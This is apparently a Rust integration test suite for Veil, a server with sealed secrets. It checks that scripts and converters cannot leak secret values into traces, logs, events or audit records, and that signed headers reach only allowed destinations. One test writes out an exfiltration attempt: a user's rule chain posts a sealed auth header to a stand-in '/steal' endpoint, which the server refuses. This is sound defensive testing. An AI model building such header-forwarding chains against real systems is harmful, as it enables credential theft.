//! Sealed secrets in scripts and converters, against the real binary: the table of exfiltration
//! attempts (each a script error or `***`; the value and every derived form absent from traces,
//! debug events, `log` lines, uplink answers, the audit log and the server log at trace level),
//! signing and a custom auth header built in a script and sent by a following `rest_api_call`
//! (checked against the token's destinations), and an AES-GCM device payload decrypted in a
//! converter. HMAC and AES-GCM on the test's side are ring's, not the RustCrypto crates Veil uses.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::support::sealed::{ATTEMPTS, Outcome, derived_forms, script_for};
use crate::support::{Api, Receiver, Server, assert_no_leak, serve_command};

const VALUE: &str = "Kq7-Zx4Wv-9Tn2Rb";

/// `veil serve` logging everything at trace level (room for two chains and an integration per
/// attempt of the table).
async fn tracing_server(dir: &std::path::Path) -> Server {
    let mounts = dir.join("mounts");
    std::fs::create_dir_all(&mounts).unwrap();
    let mut cmd = serve_command(dir);
    cmd.env("VEIL_LOG", "trace").arg("--provider-dir").arg(&mounts).args([
        "--max-chains-per-tenant",
        "500",
        "--max-integrations-per-tenant",
        "500",
    ]);
    Server::start_with(cmd).await
}

async fn created(api: &Api<'_>, path: &str, doc: Value) -> Value {
    let (status, body) = api.post(path, doc).await;
    assert_eq!(status, 201, "{body}");
    body
}

/// Makes the TEXT secret `name` holding `value` (with the fields of `extra`): stored, or linked
/// to a `files` provider on `linked`'s `mounts` (the server's provider directory; the provider is
/// made at the first linked secret):
/// every test of this file runs with both, which must behave the same.
async fn text_secret(
    api: &Api<'_>,
    linked: Option<&std::path::Path>,
    name: &str,
    value: &str,
    extra: Value,
) -> Value {
    let mut doc = json!({"name": name, "type": "TEXT"});
    if let Some(dir) = linked {
        let mounts = dir.join("mounts");
        let (_, providers) = api.get("/api/secret-providers").await;
        if providers["data"].as_array().is_none_or(|p| p.is_empty()) {
            let doc = json!({"name": "mounted", "type": "files", "configuration": {"directory": mounts}});
            created(api, "/api/secret-providers", doc).await;
        }
        std::fs::write(mounts.join(name), value).unwrap();
        doc["source"] = json!({"provider": "mounted", "key": name});
    } else {
        doc["value"] = json!(value);
    }
    for (key, field) in extra.as_object().into_iter().flatten() {
        doc[key] = field.clone();
    }
    created(api, "/api/secrets", doc).await
}

/// An HTTP integration (no header security) feeding `chain` through `converter`: its uplink URL.
async fn http_integration(api: &Api<'_>, name: &str, chain: &str, converter: &str) -> String {
    let doc = json!({"name": name, "type": "HTTP", "ruleChainId": chain,
                     "configuration": {"enableSecurity": false}, "uplinkConverter": converter});
    let integration = created(api, "/api/integrations", doc).await;
    api.server.url(integration["uplinkPath"].as_str().unwrap())
}

fn log_chain(name: &str, first: Option<Value>) -> Value {
    let log =
        json!({"type": "log", "name": "Log", "debugMode": true, "configuration": {"prefix": "LOGNODE "}});
    match first {
        Some(node) => json!({"name": name, "nodes": [node, log],
            "connections": [{"fromIndex": 0, "toIndex": 1, "type": "Success"}]}),
        None => json!({"name": name, "nodes": [log]}),
    }
}

fn port_of(url: &str) -> u16 {
    url.rsplit(':').next().unwrap().parse().unwrap()
}

#[tokio::test]
async fn no_attempt_turns_a_sealed_secret_into_data_in_scripts_or_converters() {
    no_attempt_turns_a_sealed_secret_into_data(false).await;
}

#[tokio::test]
async fn no_attempt_turns_a_sealed_linked_secret_into_data_in_scripts_or_converters() {
    no_attempt_turns_a_sealed_secret_into_data(true).await;
}

async fn no_attempt_turns_a_sealed_secret_into_data(linked: bool) {
    let dir = tempfile::tempdir().unwrap();
    let server = tracing_server(dir.path()).await;
    let api = Api::new(&server).await;
    let secret = text_secret(&api, linked.then_some(dir.path()), "canary", VALUE, json!({})).await;
    assert!(ATTEMPTS.len() >= 30, "{} attempts", ATTEMPTS.len());
    // Everything a user or an operator can see, collected as text.
    let mut seen = String::new();
    let mut failures = Vec::new();
    for (i, attempt) in ATTEMPTS.iter().enumerate() {
        // In a script node, followed by a log node.
        let node = json!({"type": "script", "name": "Script", "debugMode": true,
            "configuration": {"mode": "transform", "script": script_for(attempt, "canary")}});
        let chain = created(&api, "/api/rule-chains", log_chain(&format!("script {i}"), Some(node))).await;
        let id = chain["id"].as_str().unwrap();
        let (status, answer) =
            api.post(&format!("/api/rule-chains/{id}/messages?wait=true"), json!({"data": {"t": 1}})).await;
        assert_eq!(status, 200, "{answer}");
        let (_, events) = api.get(&format!("/api/rule-chains/{id}/events")).await;
        seen.push_str(&format!("{answer}\n{events}\n"));
        let first = &answer["trace"][0];
        match attempt.outcome {
            Outcome::Error => {
                let error = first["error"].as_str().unwrap_or_default();
                if first["relation"] != json!(["Failure"]) || !error.contains(attempt.error_says) {
                    failures.push(format!("script, {}: {first}", attempt.what));
                }
            }
            Outcome::Masked => {
                let shown = format!("{events}");
                if first["relation"] != json!(["Success"])
                    || answer["trace"][1]["relation"] != json!(["Success"])
                {
                    failures.push(format!("script, {}: {answer}", attempt.what));
                } else if !["switch on it", "type_of"].contains(&attempt.what) && !shown.contains("***") {
                    failures.push(format!("script, {}: no *** in {shown}", attempt.what));
                }
            }
        }

        // In an uplink converter feeding a chain with a log node.
        let target = created(&api, "/api/rule-chains", log_chain(&format!("target {i}"), None)).await;
        let target = target["id"].as_str().unwrap();
        let converter = script_for(attempt, "canary").replace(
            "#{msg: out, metadata: metadata}",
            "#{deviceName: \"sensor\", telemetry: out, metadata: metadata}",
        );
        let uplink = http_integration(&api, &format!("hook {i}"), target, &converter).await;
        let resp = server.client.post(&uplink).json(&json!({"t": 1})).send().await.unwrap();
        let status = resp.status().as_u16();
        let body = resp.text().await.unwrap();
        seen.push_str(&format!("{body}\n"));
        let expected = match attempt.outcome {
            Outcome::Error => 422,
            Outcome::Masked => 200,
        };
        if status != expected {
            failures.push(format!("converter, {}: {status} {body}", attempt.what));
        }
        if attempt.outcome == Outcome::Masked {
            let events = crate::support::eventually("the converted message's debug event", async || {
                let (_, events) = api.get(&format!("/api/rule-chains/{target}/events")).await;
                events.as_array().is_some_and(|e| !e.is_empty()).then_some(events)
            })
            .await;
            seen.push_str(&format!("{events}\n"));
            // A converter's print and debug lines go to the server log.
            let shown = if attempt.what == "print and debug" { server.logs() } else { events.to_string() };
            if !["switch on it", "type_of"].contains(&attempt.what) && !shown.contains("***") {
                failures.push(format!("converter, {}: no *** in {events}", attempt.what));
            }
        }
    }
    // A switch cannot name a relation after it; a converter cannot name a device after it.
    for (i, returned) in [r#"secret("canary")"#, r#"["a", secret("canary")]"#].iter().enumerate() {
        let node = json!({"type": "script", "name": "Switch", "debugMode": true,
            "configuration": {"mode": "switch", "script": returned}});
        let chain = created(&api, "/api/rule-chains", log_chain(&format!("switch {i}"), Some(node))).await;
        let id = chain["id"].as_str().unwrap();
        let (_, answer) =
            api.post(&format!("/api/rule-chains/{id}/messages?wait=true"), json!({"data": {}})).await;
        assert_eq!(
            answer["trace"][0]["error"], "a switch script's relation names cannot be Secrets",
            "{answer}"
        );
        seen.push_str(&format!("{answer}\n"));
    }
    let target = created(&api, "/api/rule-chains", log_chain("device target", None)).await;
    let converter = r#"#{deviceName: secret("canary"), telemetry: #{t: 1}}"#;
    let uplink = http_integration(&api, "device hook", target["id"].as_str().unwrap(), converter).await;
    let resp = server.client.post(&uplink).json(&json!({})).send().await.unwrap();
    assert_eq!(resp.status(), 422);
    seen.push_str(&resp.text().await.unwrap());
    // The server logs the refusal as it answers: the line may land just after the answer.
    crate::support::eventually("the refusal in the server log", async || {
        server.logs().contains("deviceName: a Secret cannot name a device").then_some(())
    })
    .await;

    let (_, audit) = api.get(&format!("/api/audit-logs?secretId={}", secret["id"].as_str().unwrap())).await;
    let (_, all_audit) = api.get("/api/audit-logs").await;
    seen.push_str(&format!("{audit}\n{all_audit}\n"));
    let logs = server.logs();
    assert!(logs.contains("LOGNODE "), "the log node's lines are in the server log");
    assert!(logs.contains("TRACE"), "the server logged at trace level");
    seen.push_str(&logs);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    let forms = derived_forms(VALUE);
    assert_no_leak(&seen, &forms.iter().map(String::as_str).collect::<Vec<_>>());
    assert!(!seen.contains(veil_core::MARKER_START), "no marker is shown anywhere");
}

fn ring_hmac_hex(key: &[u8], data: &[u8]) -> String {
    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, key);
    ring::hmac::sign(&key, data).as_ref().iter().map(|b| format!("{b:02x}")).collect()
}

#[tokio::test]
async fn a_script_signs_and_builds_an_auth_header_that_only_its_destination_gets() {
    a_script_signs_and_builds_an_auth_header(false).await;
}

#[tokio::test]
async fn a_script_signs_with_linked_secrets_and_only_the_destination_gets_the_header() {
    a_script_signs_and_builds_an_auth_header(true).await;
}

async fn a_script_signs_and_builds_an_auth_header(linked: bool) {
    let dir = tempfile::tempdir().unwrap();
    let server = tracing_server(dir.path()).await;
    let api = Api::new(&server).await;
    let (allowed, other) = (Receiver::start().await, Receiver::start().await);
    let allowed_host = format!("127.0.0.1:{}", port_of(&allowed.url));
    let other_host = format!("127.0.0.1:{}", port_of(&other.url));
    let signing_key = "sign-KEY-4f1d-\u{e9}";
    let linked = linked.then_some(dir.path());
    text_secret(&api, linked, "signing-key", signing_key, json!({})).await;
    let token =
        text_secret(&api, linked, "api-token", VALUE, json!({"allowedDestinations": [allowed_host]})).await;
    // The script reads a secret that has allowed destinations: what it builds stays sealed, and
    // the REST call that opens it is checked against that list.
    let script = r#"
        let body = msg.reading.to_string();
        metadata.signature = hmac_sha256_hex(secret("signing-key"), body);
        metadata.signature64 = hmac_sha256_base64(secret("signing-key"), body);
        metadata.digest = sha256_hex(secret("signing-key") + body);
        metadata.auth = "Token " + secret("api-token") + ":" + body;
        #{msg: msg, metadata: metadata}"#;
    let chain = created(
        &api,
        "/api/rule-chains",
        json!({"name": "Signed", "nodes": [
            {"type": "script", "name": "Sign", "debugMode": true, "configuration": {"mode": "transform", "script": script}},
            {"type": "rest_api_call", "name": "Send", "debugMode": true, "configuration": {
                "restEndpointUrlPattern": "http://$[host]/ingest", "requestMethod": "POST",
                "headers": {"Authorization": "${auth}", "X-Signature": "${signature}",
                            "X-Signature-64": "${signature64}", "X-Digest": "${digest}"},
                "credentials": {"type": "anonymous"}}}],
            "connections": [{"fromIndex": 0, "toIndex": 1, "type": "Success"}]}),
    )
    .await;
    let path = format!("/api/rule-chains/{}/messages?wait=true", chain["id"].as_str().unwrap());
    let (status, answer) = api.post(&path, json!({"data": {"host": allowed_host, "reading": 42}})).await;
    assert_eq!((status, answer["trace"][1]["relation"].clone()), (200, json!(["Success"])), "{answer}");
    let request = &allowed.requests()[0];
    assert_eq!(request.headers["authorization"], format!("Token {VALUE}:42"));
    assert_eq!(request.headers["x-signature"], ring_hmac_hex(signing_key.as_bytes(), b"42"));
    let raw = ring::hmac::sign(&ring::hmac::Key::new(ring::hmac::HMAC_SHA256, signing_key.as_bytes()), b"42");
    assert_eq!(request.headers["x-signature-64"], STANDARD.encode(raw.as_ref()));
    let digest = ring::digest::digest(&ring::digest::SHA256, format!("{signing_key}42").as_bytes());
    let digest: String = digest.as_ref().iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(request.headers["x-digest"], digest);

    // Another host: nothing sent, Failure naming the secret and host, BLOCKED_DESTINATION.
    let (status, answer) = api.post(&path, json!({"data": {"host": other_host, "reading": 43}})).await;
    assert_eq!((status, answer["trace"][1]["relation"].clone()), (200, json!(["Failure"])), "{answer}");
    let error = answer["trace"][1]["error"].as_str().unwrap();
    assert!(error.contains(&format!("secret 'api-token' may not be sent to {other_host}")), "{error}");
    assert!(other.requests().is_empty(), "nothing reached the other receiver");
    let (_, audit) = api.get(&format!("/api/audit-logs?secretId={}", token["id"].as_str().unwrap())).await;
    let blocked = audit["data"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["action"] == "BLOCKED_DESTINATION")
        .unwrap_or_else(|| panic!("{audit}"));
    assert!(blocked.to_string().contains(&other_host), "{blocked}");

    // The signature is public; the header is not: traces and events show it as `***`.
    let (_, events) = api.get(&format!("/api/rule-chains/{}/events", chain["id"].as_str().unwrap())).await;
    let seen = format!("{answer}\n{events}\n{audit}\n{}", server.logs());
    assert_no_leak(&seen, &[VALUE, &format!("Token {VALUE}:42"), signing_key]);
    assert!(events.to_string().contains("\"auth\":\"***\""), "{events}");
}

#[tokio::test]
async fn a_converter_decrypts_an_aes_gcm_device_payload_with_a_secret_key() {
    let dir = tempfile::tempdir().unwrap();
    let server = tracing_server(dir.path()).await;
    let api = Api::new(&server).await;
    let key: [u8; 16] = *b"\x00\x11\x22\x33\x44\x55\x66\x77\x88\x99\xaa\xbb\xcc\xdd\xee\xff";
    let key_hex: String = key.iter().map(|b| format!("{b:02x}")).collect();
    created(&api, "/api/secrets", json!({"name": "device-key", "type": "TEXT", "value": key_hex})).await;
    let target = created(&api, "/api/rule-chains", log_chain("Readings", None)).await;
    let target = target["id"].as_str().unwrap();
    let converter = r#"
        let plain = aes_gcm_decrypt(secret("device-key"), payload.nonce, payload.data);
        #{deviceName: payload.device, telemetry: parse_json(plain.as_string())}"#;
    let uplink = http_integration(&api, "Sensors", target, converter).await;

    // The device encrypts with AES-128-GCM (ring); nonce in hex, ciphertext + tag in base64.
    let nonce = [7u8; 12];
    let sealing =
        ring::aead::LessSafeKey::new(ring::aead::UnboundKey::new(&ring::aead::AES_128_GCM, &key).unwrap());
    let mut data = br#"{"temperature":21.5,"humidity":40}"#.to_vec();
    sealing
        .seal_in_place_append_tag(
            ring::aead::Nonce::assume_unique_for_key(nonce),
            ring::aead::Aad::empty(),
            &mut data,
        )
        .unwrap();
    let nonce_hex: String = nonce.iter().map(|b| format!("{b:02x}")).collect();
    let body = json!({"device": "sensor-7", "nonce": nonce_hex, "data": STANDARD.encode(&data)});
    let resp = server.client.post(&uplink).json(&body).send().await.unwrap();
    assert_eq!(resp.status(), 200, "{}", resp.text().await.unwrap());
    let events = crate::support::eventually("the decrypted reading's debug event", async || {
        let (_, events) = api.get(&format!("/api/rule-chains/{target}/events")).await;
        events.as_array().is_some_and(|e| !e.is_empty()).then_some(events)
    })
    .await;
    let msg = &events[0]["input"];
    assert_eq!(msg["data"], json!({"temperature": 21.5, "humidity": 40}), "{events}");
    assert_eq!(msg["originator"], "sensor-7");

    // A tampered ciphertext does not decrypt: the uplink is refused, the key is nowhere.
    data[0] ^= 1;
    let body = json!({"device": "sensor-7", "nonce": nonce_hex, "data": STANDARD.encode(&data)});
    let resp = server.client.post(&uplink).json(&body).send().await.unwrap();
    assert_eq!(resp.status(), 422);
    let answer = resp.text().await.unwrap();
    assert_no_leak(&format!("{answer}\n{}", server.logs()), &[&key_hex]);
    assert!(
        server.logs().contains("aes_gcm_decrypt: the ciphertext does not decrypt with this key"),
        "{}",
        server.logs()
    );
}

#[tokio::test]
async fn a_converters_sealed_token_opens_in_the_chains_header_and_an_echo_of_it_is_masked() {
    let dir = tempfile::tempdir().unwrap();
    let server = tracing_server(dir.path()).await;
    let api = Api::new(&server).await;
    let upstream = Receiver::start().await;
    upstream.reflect();
    created(&api, "/api/secrets", json!({"name": "api-token", "type": "TEXT", "value": VALUE})).await;
    // The chain references no secret: the value comes sealed from the integration's converter.
    let chain = created(
        &api,
        "/api/rule-chains",
        json!({"name": "Forward", "nodes": [{"type": "rest_api_call", "name": "Send", "debugMode": true,
            "configuration": {"restEndpointUrlPattern": format!("{}/up", upstream.url), "requestMethod": "POST",
                              "headers": {"Authorization": "${token}"}}}]}),
    )
    .await;
    let chain_id = chain["id"].as_str().unwrap();
    let converter = r#"#{deviceName: "d", telemetry: #{t: payload.t}, metadata: #{token: "Bearer " + secret("api-token")}}"#;
    let uplink = http_integration(&api, "Hook", chain_id, converter).await;
    let resp = server.client.post(&uplink).json(&json!({"t": 5})).send().await.unwrap();
    assert_eq!(resp.status(), 200);
    let answer = resp.text().await.unwrap();
    crate::support::eventually("the upstream request", async || {
        (!upstream.requests().is_empty()).then_some(())
    })
    .await;
    assert_eq!(upstream.requests()[0].headers["authorization"], format!("Bearer {VALUE}"));
    // The upstream reflected the header into the response, which became the message data.
    let events = crate::support::eventually("the call's debug event", async || {
        let (_, events) = api.get(&format!("/api/rule-chains/{chain_id}/events")).await;
        events.as_array().is_some_and(|e| !e.is_empty()).then_some(events)
    })
    .await;
    assert_eq!(events[0]["outputs"][0]["msg"]["data"]["headers"]["authorization"], "Bearer ***", "{events}");
    assert_no_leak(&format!("{answer}\n{events}\n{}", server.logs()), &[VALUE]);
}

#[tokio::test]
async fn saving_a_chain_fed_with_sealed_values_needs_use_on_their_secrets() {
    let dir = tempfile::tempdir().unwrap();
    let server = tracing_server(dir.path()).await;
    let admin = Api::new(&server).await;
    created(&admin, "/api/secrets", json!({"name": "feed-token", "type": "TEXT", "value": VALUE})).await;
    let chain = created(&admin, "/api/rule-chains", log_chain("Telemetry", None)).await;
    let chain_id = chain["id"].as_str().unwrap();
    let converter =
        r#"#{deviceName: "d", telemetry: #{t: 1}, metadata: #{auth: "Bearer " + secret("feed-token")}}"#;
    http_integration(&admin, "Feed", chain_id, converter).await;
    let role = json!({"name": "chain-editor", "permissions": [{"resource": "RULE_CHAIN", "operations": ["READ", "WRITE"]}]});
    created(&admin, "/api/roles", role).await;
    let user = json!({"username": "bob", "password": "Some-pass-word-1", "roles": ["chain-editor"]});
    created(&admin, "/api/users", user).await;
    let bob = Api::as_user(&server, "bob", "Some-pass-word-1").await;

    // Bob could send what the integration seals to a host of his: he may not save the chain.
    let stealing = json!({"name": "Telemetry", "nodes": [{"type": "rest_api_call", "name": "Out", "configuration": {
        "restEndpointUrlPattern": "http://127.0.0.1:9/steal", "requestMethod": "POST", "headers": {"X-Got": "${auth}"}}}]});
    let (status, body) = bob.put(&format!("/api/rule-chains/{chain_id}"), stealing.clone()).await;
    assert_eq!(status, 403, "{body}");
    let message = body["problems"][0]["message"].as_str().unwrap();
    assert!(
        message
            .contains("integration 'Feed' feeds this rule chain with values sealed from secret 'feed-token'")
            && message.contains("needs SECRET:USE"),
        "{body}"
    );
    let (status, body) = admin.put(&format!("/api/rule-chains/{chain_id}"), stealing).await;
    assert_eq!(status, 200, "{body}");
}
